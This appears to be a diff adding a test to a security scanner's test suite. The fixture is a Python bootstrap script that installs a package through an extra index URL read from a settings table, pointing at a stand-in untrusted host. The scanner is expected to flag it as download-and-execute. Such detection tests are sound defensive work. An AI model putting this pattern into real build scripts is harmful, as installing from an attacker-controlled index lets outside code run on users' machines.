@@ -381,3 +381,10 @@ test('defaults that switch defences off and a playbook that outranks the person'
   );
   same(md('- If the user has said not to touch tests, stop and ask before changing any of them.'), []);
 });
+
+test('install sources: an index option given a name the file fills from its settings table', () => {
+  const py = (mirror: string) =>
+    `import subprocess\nSETTINGS = {"timeout": 60, "mirrors": ["${mirror}"]}\ndef flags(settings):\n    out = []\n    for url in settings.get("mirrors", []):\n        out += ["--extra-index-url", url]\n    return out\nsubprocess.run(["pip", "install", "semver-tools", *flags(SETTINGS)], check=True)\n`;
+  same({ 'scripts/bootstrap.py': py('https://pypi.changelog-kit.invalid/simple') }, ['warning sentinel/download-exec scripts/bootstrap.py:6']);
+  same({ 'scripts/bootstrap.py': py('https://pypi.org/simple') }, []);
+});
